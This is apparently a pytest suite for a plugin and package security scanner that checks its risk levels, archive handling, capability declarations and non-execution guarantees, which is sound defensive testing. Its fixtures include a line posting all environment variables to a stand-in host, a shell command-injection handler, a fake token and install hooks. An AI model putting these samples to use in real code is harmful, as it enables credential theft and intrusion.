"""The scan of a whole package: levels, capabilities, what is promised of every scan."""

from __future__ import annotations

import os
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import goobits_scanner
import pytest
from goobits_scanner import (
    Axis,
    Level,
    PluginSecurityScanner,
    Report,
    Severity,
    Suppression,
    TargetError,
)
from goobits_scanner._source import Source

STEALER = (
    "import os, requests\n"
    "requests.post('https://c.invalid/in', json=dict(os.environ))\n"
)
HONEST = (
    "import json\n\n\ndef load(path):\n    with open(path) as file:\n"
    "        return json.load(file)\n"
)
Write = Callable[..., Path]


@pytest.fixture
def write(tmp_path: Path) -> Write:
    """Return a function that writes a package and returns its folder."""

    def write(**files: str) -> Path:
        folder = tmp_path / "package"
        folder.mkdir(exist_ok=True)
        for name, text in files.items():
            path = folder / name.replace("__", "/").replace("_dot_", ".")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        return folder

    return write


def scan(path: Path, **named: object) -> Report:
    return PluginSecurityScanner(jobs=1).scan(path, **named)  # type: ignore[arg-type]


def rules(report: Report) -> set[str]:
    return {finding.rule for finding in report.findings}


def test_public_names_are_all() -> None:
    """What is listed is there, and nothing else is public."""
    public = {name for name in dir(goobits_scanner) if not name.startswith("_")}
    assert public == set(goobits_scanner.__all__)
    for name in goobits_scanner.__all__:
        assert getattr(goobits_scanner, name) is not None


def test_honest_package_is_safe(write: Write) -> None:
    """Most packages are: they must say so, with what they can do."""
    report = scan(write(tool_dot_py=HONEST))
    assert (report.level, report.findings, report.unscanned) == (Level.SAFE, (), ())
    assert [capability.name for capability in report.capabilities] == ["read"]
    assert (report.files, report.lines, report.size) == (1, 7, len(HONEST))


def test_package_that_steals_is_high(write: Write) -> None:
    """The level follows what attacks the user."""
    report = scan(write(tool_dot_py=HONEST, more__steal_dot_py=STEALER))
    assert report.level is Level.HIGH
    worst = report.findings[0]
    assert (worst.file, worst.line, worst.axis) == ("more/steal.py", 2, Axis.MALICE)
    assert worst.severity is Severity.HIGH


def test_vulnerable_package_is_medium_at_most(write: Write) -> None:
    """What could be attacked attacks nobody yet."""
    text = (
        "import os\nfrom flask import request\n"
        "def show():\n    os.system('ls ' + request.args['name'])\n"
    )
    report = scan(write(web_dot_py=text))
    assert report.findings[0].severity is Severity.HIGH
    assert report.level is Level.MEDIUM


@pytest.mark.parametrize(
    "name", ["package.zip", "package-1-py3-none-any.whl", "package.tar.gz", "p.crate"]
)
def test_archives_are_scanned_like_folders(
    write: Write, tmp_path: Path, name: str
) -> None:
    """Wheels, sdists, npm's packages and crates are what people have in their hands."""
    folder, packed = write(steal_dot_py=STEALER), tmp_path / name
    if name.endswith((".zip", ".whl")):
        with zipfile.ZipFile(packed, "w") as archive:
            archive.write(folder / "steal.py", "package/steal.py")
    else:
        with tarfile.open(packed, "w:gz") as archive:
            archive.add(folder / "steal.py", "package/steal.py")
    report = scan(packed)
    assert report.level is Level.HIGH
    assert report.findings[0].file == "package/steal.py"


def test_archive_in_an_archive_is_scanned(write: Write, tmp_path: Path) -> None:
    """A wheel in a source distribution is a place to hide."""
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("steal.py", STEALER)
    with zipfile.ZipFile(tmp_path / "outer.zip", "w") as archive:
        archive.writestr("data/inner.whl", inner.getvalue())
    report = scan(tmp_path / "outer.zip")
    assert report.findings[0].file == "data/inner.whl!steal.py"


def test_single_file_is_scanned(tmp_path: Path) -> None:
    """A snippet from a page is what people want to know about first."""
    path = tmp_path / "steal.py"
    path.write_text(STEALER)
    assert scan(path).level is Level.HIGH


def test_nothing_to_scan_is_an_error(tmp_path: Path) -> None:
    """An empty report of a path that is not there would be a lie."""
    with pytest.raises(TargetError, match="can't be read"):
        scan(tmp_path / "nothing")


def test_declared_capabilities_are_no_finding(write: Write) -> None:
    """A plugin may do what its user was asked for."""
    folder = write(tool_dot_py=HONEST)
    assert scan(folder, declared=["read"]).findings == ()


def test_undeclared_capability_is_a_finding(write: Write) -> None:
    """A plugin that can do more than it says is not what its user agreed to."""
    text = "import subprocess\nsubprocess.run(['ls'])\n"
    report = scan(write(tool_dot_py=text), declared=["read"])
    assert rules(report) == {"capability-undeclared"}
    assert report.level is Level.HIGH


def test_unknown_capability_is_refused(write: Write) -> None:
    """A misspelt name would allow nothing, or everything."""
    with pytest.raises(ValueError, match="no capability is called 'internet'"):
        scan(write(tool_dot_py=HONEST), declared=["internet"])


@pytest.mark.parametrize(
    "comment",
    ["# nosec", "# noqa", "# type: ignore", "# pragma: no cover", "# goobits: ignore"],
)
def test_comment_suppresses_nothing(write: Write, comment: str) -> None:
    """Whoever attacks would write the comment, too."""
    plain = scan(write(steal_dot_py=STEALER))
    text = STEALER.replace("\n", f"  {comment}\n")
    assert rules(scan(write(steal_dot_py=text))) == rules(plain)


def test_caller_suppresses_by_rule_and_file(write: Write) -> None:
    """The one who scans decides, from outside."""
    folder = write(a_dot_py=STEALER, b_dot_py=STEALER)
    found = rules(scan(folder))
    scanner = PluginSecurityScanner(
        jobs=1, suppress=[Suppression(rule, "a.py") for rule in found]
    )
    assert {finding.file for finding in scanner.scan(folder).findings} == {"b.py"}


def test_two_processes_find_the_same(write: Write) -> None:
    """Speed must not change what is found."""
    files = {f"m{number}_dot_py": STEALER for number in range(9)}
    folder = write(**files, tool_dot_py=HONEST)
    assert PluginSecurityScanner(jobs=2).scan(folder) == scan(folder)


def test_secret_is_redacted_everywhere(write: Write) -> None:
    """A report is sent around: what it shows is no longer secret."""
    secret = "ghp_" + "aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA2bC4"
    report = scan(write(settings_dot_py=f'TOKEN = "{secret}"\n'))
    assert any(finding.category == "secrets" for finding in report.findings)
    assert all(secret[8:] not in finding.evidence for finding in report.findings)


def test_failure_on_one_file_hides_no_other(
    write: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever finds a mistake of the scanner must not blind it with one file."""
    from goobits_scanner import _collection

    real = _collection.examine

    def examine(source: Source, *rest: object) -> object:
        if source.name == "broken.py":
            raise RecursionError("too deep")
        return real(source, *rest)  # type: ignore[arg-type]

    monkeypatch.setattr(_collection, "examine", examine)
    report = scan(write(broken_dot_py=HONEST, steal_dot_py=STEALER))
    assert report.unscanned == ("broken.py",)
    assert report.level is Level.HIGH


AUDIT = """
import sys
seen = []
TOUCHY = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork",
          "urllib.", "exec", "compile", "import", "open")
def watch(event, arguments):
    if event.startswith(TOUCHY):
        seen.append((event, arguments))
from goobits_scanner import PluginSecurityScanner
PluginSecurityScanner(jobs=1).scan(sys.argv[2])
sys.addaudithook(watch)
report = PluginSecurityScanner(jobs=1).scan(sys.argv[1])
assert report.findings
root = sys.argv[1]
for event, arguments in seen:
    if event == "open":
        assert not isinstance(arguments[1], str) or "r" in arguments[1], arguments
    elif event == "import":
        assert not str(arguments[1]).startswith(root), arguments
        assert "victim" not in str(arguments[0]), arguments
    elif event in ("exec", "compile"):
        code = arguments[0] if event == "exec" else arguments[1]
        name = getattr(code, "co_filename", code) or ""
        assert not str(name).startswith(root), arguments
    else:
        raise AssertionError((event, arguments))
"""


def test_nothing_is_run_and_nothing_reaches_the_network(
    write: Write, tmp_path: Path
) -> None:
    """A scanner that ran what it scans would be the way in."""
    folder = write(
        victim_dot_py=f"open({str(tmp_path / 'ran')!r}, 'w')\n{STEALER}",
        setup_dot_py=f"open({str(tmp_path / 'ran')!r}, 'w')\nimport victim\n",
        sitecustomize_dot_py=f"open({str(tmp_path / 'ran')!r}, 'w')\n",
        package_dot_json='{"name": "a", "scripts": {"postinstall": "touch ran"}}',
        build_dot_rs='fn main() { std::process::Command::new("sh").spawn(); }\n',
        index_dot_js="require('child_process').execSync('touch ran');\n",
        a_dot_ts="const x: string = process.env.HOME!;\n",
    )
    warm = write(tool_dot_py=HONEST).parent / "warm"
    warm.mkdir()
    for path in folder.iterdir():
        (warm / path.name).write_text(path.read_text().replace("victim", "other"))
    done = subprocess.run(
        [sys.executable, "-c", AUDIT, str(folder), str(warm)],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "PYTHONPATH": ""},
    )
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "ran").exists()
    assert not (folder / "ran").exists()
